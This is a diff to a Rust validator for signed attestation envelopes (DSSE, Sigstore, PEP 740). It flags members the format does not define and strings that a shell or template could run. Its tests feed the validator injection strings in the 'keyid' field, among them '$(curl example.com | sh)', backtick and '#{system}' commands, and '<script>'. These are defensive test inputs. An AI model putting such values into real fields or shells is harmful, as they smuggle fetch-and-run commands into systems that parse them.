@@ -1,70 +1,71 @@
-//! Members that a signed item's format does not define. Specifications say to ignore them, and so does everything that reads
-//! an item's claim. But an envelope with members of another format is also a document of that other format: what a program
-//! takes for its configuration can carry a genuine envelope to be taken for evidence. So such a file is judged like any other
+//! What a signed item holds beside its signed part: members that its format does not define, and text that nobody signed.
+//!
+//! Specifications say to ignore both, and so does everything that reads an item's claim. But an envelope with members of
+//! another format is also a document of that other format, and a `keyid` such as `$(…)` makes it a script: what a program
+//! reads or a shell runs can carry a genuine envelope to be taken for evidence. So such a file is judged like any other
 //! (`docs/decisions/0004-what-is-evidence.md`).
 
 use serde_json::Value as Json;
 
-/// Every member name of DSSE envelopes (`envelope.md`), Sigstore bundles (`sigstore_bundle.proto`, `sigstore_rekor.proto`,
-/// `sigstore_common.proto`) and PEP 740 attestation objects.
-const KNOWN: [&str; 43] = [
-    "algorithm",
-    "canonicalizedBody",
-    "cert",
-    "certificate",
-    "certificates",
-    "checkpoint",
-    "digest",
-    "dsseEnvelope",
-    "envelope",
-    "hashes",
-    "hint",
-    "inclusionPromise",
-    "inclusionProof",
-    "integratedTime",
-    "keyId",
-    "keyid",
-    "kind",
-    "kindVersion",
-    "logId",
-    "logIndex",
-    "mediaType",
-    "messageDigest",
-    "messageSignature",
-    "payload",
-    "payloadType",
-    "publicKey",
-    "rawBytes",
-    "rfc3161Timestamps",
-    "rootHash",
-    "sig",
-    "signature",
-    "signatures",
-    "signedEntryTimestamp",
-    "signedTimestamp",
-    "statement",
-    "timestampVerificationData",
-    "tlogEntries",
-    "transparency_entries",
-    "treeSize",
-    "verificationMaterial",
-    "verification_material",
-    "version",
-    "x509CertificateChain",
-];
+use super::recognise::{Kind, by_object};
 
-/// Does an item have a member, anywhere, that its format does not define?
+/// The members of DSSE envelopes (`envelope.md`), Sigstore bundles (`sigstore_bundle.proto`, `sigstore_rekor.proto`,
+/// `sigstore_common.proto`) and PEP 740 attestation objects, by the member that holds them.
+fn members_of(holder: &str) -> &'static [&'static str] {
+    match holder {
+        "certificate" | "certificates" => &["rawBytes"],
+        "checkpoint" => &["envelope"],
+        "dsseEnvelope" => DSSE,
+        "envelope" => &["signature", "statement"],
+        "inclusionPromise" => &["signedEntryTimestamp"],
+        "inclusionProof" => &["checkpoint", "hashes", "logIndex", "rootHash", "treeSize"],
+        "kindVersion" => &["kind", "version"],
+        "logId" => &["keyId"],
+        "messageDigest" => &["algorithm", "digest"],
+        "messageSignature" => &["messageDigest", "signature"],
+        "publicKey" => &["hint", "rawBytes"],
+        "rfc3161Timestamps" => &["signedTimestamp"],
+        "signatures" => &["cert", "keyid", "sig"],
+        "timestampVerificationData" => &["rfc3161Timestamps"],
+        "tlogEntries" | "transparency_entries" => &[
+            "canonicalizedBody",
+            "inclusionPromise",
+            "inclusionProof",
+            "integratedTime",
+            "kindVersion",
+            "logId",
+            "logIndex",
+        ],
+        "verificationMaterial" => {
+            &["certificate", "publicKey", "timestampVerificationData", "tlogEntries", "x509CertificateChain"]
+        }
+        "verification_material" => &["certificate", "transparency_entries"],
+        "x509CertificateChain" => &["certificates"],
+        _ => &[],
+    }
+}
+
+const DSSE: &[&str] = &["payload", "payloadType", "signatures"];
+
+/// Does an item hold, anywhere, a member that its format does not define, or text that could be more than a name?
 pub(super) fn in_item(item: &Json) -> bool {
-    let mut stack = vec![item];
-    while let Some(value) = stack.pop() {
+    let own: &[&str] = match item.as_object().and_then(by_object) {
+        Some(Kind::Bundle) => &["dsseEnvelope", "mediaType", "messageSignature", "verificationMaterial"],
+        Some(Kind::Dsse) => DSSE,
+        Some(Kind::Pep740) => &["envelope", "verification_material", "version"],
+        _ => return true,
+    };
+    let mut stack = vec![(own, item)];
+    while let Some((members, value)) = stack.pop() {
         match value {
             Json::Object(map) => {
-                if map.keys().any(|name| !KNOWN.contains(&name.as_str())) {
+                if map.keys().any(|name| !members.contains(&name.as_str())) {
                     return true;
                 }
-                stack.extend(map.values());
+                stack.extend(map.iter().map(|(name, value)| (members_of(name), value)));
             }
-            Json::Array(items) => stack.extend(items),
+            Json::Array(items) => stack.extend(items.iter().map(|item| (members, item))),
+            Json::String(text) if !is_inert(text) => return true,
             _ => {}
         }
     }
@@ -76,6 +77,34 @@ pub(super) fn around(wrapper: &Json, known: &[&str]) -> bool {
     wrapper.as_object().is_none_or(|map| map.keys().any(|name| !known.contains(&name.as_str())))
 }
 
+/// Does what stands beside an item, in the list that holds it, hold other members than `known`, or text that could be more
+/// than a name? Objects in it are looked into; `item` is not.
+pub(super) fn beside(entry: &Json, item: &str, known: &[&str]) -> bool {
+    let mut stack: Vec<&Json> = vec![entry];
+    while let Some(value) = stack.pop() {
+        match value {
+            Json::Object(map) => {
+                if map.keys().any(|name| name != item && !known.contains(&name.as_str())) {
+                    return true;
+                }
+                stack.extend(map.iter().filter(|(name, _)| *name != item).map(|(_, value)| value));
+            }
+            Json::Array(items) => stack.extend(items),
+            Json::String(text) if !is_inert(text) => return true,
+            _ => {}
+        }
+    }
+    false
+}
+
+/// Text that no shell, template or page takes for an instruction: base64, digests, names, URIs, checkpoints.
+fn is_inert(text: &str) -> bool {
+    text.chars().all(|c| {
+        matches!(c, ' ' | '\n' | '\u{2014}')
+            || c.is_ascii_graphic() && !matches!(c, '$' | '`' | '\\' | '"' | '\'' | '{' | '}' | '<' | '>')
+    })
+}
+
 #[cfg(test)]
 mod tests {
     use serde_json::json;
@@ -84,19 +113,49 @@ mod tests {
 
     #[test]
     fn members() {
-        let envelope = json!({"payload": "", "payloadType": "t", "signatures": [{"sig": "", "keyid": ""}]});
-        let with = |pointer: &str| {
-            let mut value = envelope.clone();
-            if let Some(object) = value.pointer_mut(pointer).and_then(Json::as_object_mut) {
-                object.insert("update_url".to_owned(), json!("https://example.com"));
+        let envelope =
+            json!({"payload": "", "payloadType": "t", "signatures": [{"sig": "", "keyid": "SHA256:a+b/c="}]});
+        let with = |pointer: &str, name: &str, value: Json| {
+            let mut changed = envelope.clone();
+            if let Some(object) = changed.pointer_mut(pointer).and_then(Json::as_object_mut) {
+                object.insert(name.to_owned(), value);
             }
-            value
+            changed
         };
         assert!(!in_item(&envelope));
-        assert!(in_item(&with("")));
-        assert!(in_item(&with("/signatures/0")));
+        for (pointer, name, value) in [
+            ("", "update_url", json!("https://example.com")),
+            ("/signatures/0", "update_url", json!("https://example.com")),
+            // Known to another format, or elsewhere in this one.
+            ("", "publicKey", json!({"rawBytes": "AAAA"})),
+            ("", "version", json!("1.0")),
+            ("", "keyid", json!("a")),
+            ("/signatures/0", "payload", json!("")),
+            ("/signatures/0", "keyid", json!({"keyid": "a"})),
+            ("/signatures/0", "keyid", json!("$(curl example.com | sh)")),
+            ("/signatures/0", "keyid", json!("`id`")),
+            ("/signatures/0", "keyid", json!("#{system 'id'}")),
+            ("/signatures/0", "keyid", json!("<script>")),
+            ("/signatures/0", "keyid", json!("caf\u{e9}")),
+        ] {
+            assert!(in_item(&with(pointer, name, value)), "{pointer} {name}");
+        }
         assert!(!around(&json!({"attestations": []}), &["attestations"]));
         assert!(around(&json!({"attestations": [], "update_url": ""}), &["attestations"]));
         assert!(around(&json!([]), &["attestations"]));
+    }
+
+    #[test]
+    fn what_stands_beside() {
+        let known = ["predicateType", "publisher", "kind"];
+        for (entry, expected) in [
+            (json!({"bundle": {"x": "$("}, "predicateType": "https://slsa.dev/provenance/v1"}), false),
+            (json!({"bundle": {}, "publisher": {"kind": "GitHub"}}), false),
+            (json!({"bundle": {}, "predicateType": "$(id)"}), true),
+            (json!({"bundle": {}, "command": "id"}), true),
+            (json!({"bundle": {}, "publisher": {"command": "id"}}), true),
+        ] {
+            assert_eq!(beside(&entry, "bundle", &known), expected, "{entry}");
+        }
     }
 }
